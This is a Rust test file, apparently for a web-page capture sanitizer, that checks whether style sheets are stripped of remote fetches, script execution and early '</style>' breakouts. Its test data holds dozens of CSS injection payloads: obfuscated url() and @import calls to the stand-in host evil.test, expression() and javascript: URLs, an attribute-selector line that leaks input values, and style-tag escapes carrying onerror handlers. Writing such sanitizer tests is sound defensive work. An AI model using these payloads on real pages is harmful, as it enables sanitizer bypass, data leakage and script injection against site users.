//! Style sheets that fetch, run, or end where they should not.

use crate::oracle::{capture, check, check_capture};
use detour_shelf::capture::Part;

#[test]
fn no_style_fetches() {
    for css in [
        "p{background:url(//evil.test)}",
        "p{background:URL( '//evil.test' )}",
        "p{background:\\75\\72\\6c(//evil.test)}",
        "p{background:u\\rl(//evil.test)}",
        "p{background:url(/**///evil.test)}",
        "p{background:url(\\2f\\2f evil.test)}",
        "p{background:url(//evil.test",
        "p{background:url('//evil.test",
        "p{background:url@charset ;(//evil.test)}",
        "p{background:u\\72<!--l(//evil.test)}",
        "p{background:u\\72\\\nl(//evil.test)}",
        "@import '//evil.test';",
        "@import url(//evil.test);",
        "@\\69 mport '//evil.test';",
        "@import/**/url('//evil.test')screen;",
        "@charset 'utf-7';@import '//evil.test';",
        "@import '//evil.test",
        "@import url(evil.css);",
        "@media all{@import '//evil.test';}",
        "@layer x;@import '//evil.test' layer(x) supports(display:grid) screen;",
        "@font-face{font-family:x;src:url(//evil.test)}",
        "@font-face{font-family:x;src:local('a'),url('//evil.test')format('woff2')}",
        "@namespace x url(//evil.test);",
        "@namespace '//evil.test';",
        "@document url(//evil.test){p{}}",
        "p{background:image-set('//evil.test' 1x)}",
        "p{background:-webkit-image-set(url(//evil.test) 1x)}",
        "p{background:image-set(\"//evil.test\" type('image/png'))}",
        "p{--x:'//evil.test';background:image-set(var(--x) 1x)}",
        "p{background:image-set(attr(title) 1x)}",
        "p{background:image-set(if(style(--a):'//evil.test') 1x)}",
        "p{background:image('//evil.test')}",
        "p{background:src('//evil.test')}",
        "p{background:src(var(--x))}",
        "p{background:cross-fade(url(//evil.test),url(//evil.test),50%)}",
        "p{background:attr(title type(<url>))}",
        "p{cursor:url(//evil.test),auto}",
        "li{list-style:url(//evil.test)}",
        "p::after{content:url(//evil.test)}",
        "p{border-image:url(//evil.test)}",
        "p{mask:url(//evil.test#x)}",
        "p{filter:url(//evil.test#x)}",
        "p{clip-path:url(//evil.test#x)}",
        "p{shape-outside:url(//evil.test)}",
        "p{offset-path:url(//evil.test#x)}",
        "p{--x:url(//evil.test)}",
        "@property --x{syntax:'<url>';initial-value:url(//evil.test);inherits:false}",
        "@counter-style x{system:cyclic;symbols:url(//evil.test)}",
        "@keyframes x{from{background:url(//evil.test)}}",
        "@page{background:url(//evil.test)}",
        "@container x{p{background:url(//evil.test)}}",
        "@supports (background:url(//evil.test)){p{}}",
        "input[value^=a]{background:url(//evil.test/a)}",
        "p{behavior:url(//evil.test)}",
        "p{-moz-binding:url('//evil.test#x')}",
        "p{width:expression(alert(1))}",
        "p{width:e\\xpression(alert(1))}",
        "p{background:url(javascript:alert(1))}",
        "p{background:url('data:text/html,<script>alert(1)</script>')}",
        "p{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='x')}",
        "p{background:url(lie.png)}",
        "\u{0}p{background:u\u{0}rl(//evil.test)}",
    ] {
        let escaped = css.replace('&', "&amp;").replace('"', "&quot;");
        for html in [
            format!("<style>{css}</style>"),
            format!("<body><style media=all>{css}</style>"),
            format!("<svg><style>{}</style></svg>", escaped.replace('<', "&lt;")),
            format!("<p style=\"{escaped}\">x"),
            format!("<svg><rect fill=\"{escaped}\" style=\"{escaped}\"/></svg>"),
            format!("<div><template shadowrootmode=open><style>{css}</style></template></div>"),
        ] {
            let page = check(&html);
            assert!(!page.html.contains("url(//evil"), "{html}: {}", page.html);
            assert!(page.bodies.is_empty(), "{html}");
        }
        let mut capture = capture("<link rel=stylesheet href=x.css>");
        capture.parts.push(Part {
            url: "https://a.test/dir/x.css".into(),
            media_type: "text/css".into(),
            bytes: css.into(),
            ..Part::default()
        });
        check_capture(capture);
    }
}

#[test]
fn no_style_ends_early() {
    for css in [
        "p{content:'<\\/style><img src=x onerror=alert(1)>'}",
        "/*\\3c/style>*/p{}",
        "p{content:'\\3c/style\\3e\\3cscript\\3e'}",
        "p{content:\"\\3c/style><img src=x onerror=alert(1)>\"}",
        ".\\3c\\2fstyle\\3e{}",
        "p{x:\\3c/style\\3e}",
        "p{background:url(\\3c/style>)}",
        "<!-- p{} -->",
        "<![CDATA[ p{} ]]>",
        "p{}<b>x",
        "@media (width<400px) and (400px<=width){p{}}",
        "p{content:'",
        "p{content:'\\",
        "p{color:red\\",
        "p{/*",
        "p{color:(([{",
        "p}}}{color:red}]])",
        "@import",
        "@",
        "\\",
    ] {
        for html in [
            format!("<style>{css}</style><p>after</p>"),
            format!("<svg><style>{css}</style></svg><p>after</p>"),
            format!("<svg><style>{}</style></svg><p>after</p>", css.replace('<', "&lt;").replace("\\3c", "&lt;")),
        ] {
            assert!(check(&html).text.ends_with("after"), "{html}");
        }
    }
    // As a part, nothing but the cleaner keeps it from ending the element it is put into.
    let mut capture = capture("<link rel=stylesheet href=x.css><p>after</p>");
    capture.parts.push(Part {
        url: "https://a.test/dir/x.css".into(),
        media_type: "text/css".into(),
        bytes: b"/*</style>*/p{content:'</style><script>alert(1)</script>'}</style><script>alert(1)</script>".to_vec(),
        ..Part::default()
    });
    check_capture(capture);
}

#[test]
fn style_sheets_that_import_each_other_end() {
    let mut capture = capture("<link rel=stylesheet href=0.css><p>x</p>");
    let twice =
        |n: u32| format!("@import '{n}.css';@import '{n}.css' screen;p{{width:{n}px}}{}", "p{color:red}".repeat(50));
    for n in 0..40 {
        capture.parts.push(Part {
            url: format!("https://a.test/dir/{n}.css"),
            media_type: "text/css".into(),
            bytes: twice((n + 1) % 40).into_bytes(),
            ..Part::default()
        });
    }
    let page = check_capture(capture);
    assert!(page.bodies.iter().map(|body| body.bytes.len()).sum::<usize>() < 32 << 20);
}

#[test]
fn style_sheets_are_read_in_their_charset_and_from_their_place() {
    let mut capture = capture("<link rel=stylesheet href=/css/x.css media=print>");
    capture.parts.push(Part {
        url: "https://a.test/css/x.css".into(),
        media_type: "text/css".into(),
        bytes: b"@charset \"iso-8859-1\";p::after{content:'\xfc';background:url(../dir/ok.png)}".to_vec(),
        ..Part::default()
    });
    let page = check_capture(capture);
    let sheet = page.bodies.iter().find(|body| body.media_type == "text/css").unwrap();
    assert!(
        std::str::from_utf8(&sheet.bytes).unwrap().starts_with("p::after{content:\"ü\";background:url(detour-body:")
    );
    assert_eq!((page.bodies.len(), page.lost), (2, 0));
    assert!(page.html.contains(" media=\"print\">"));
}
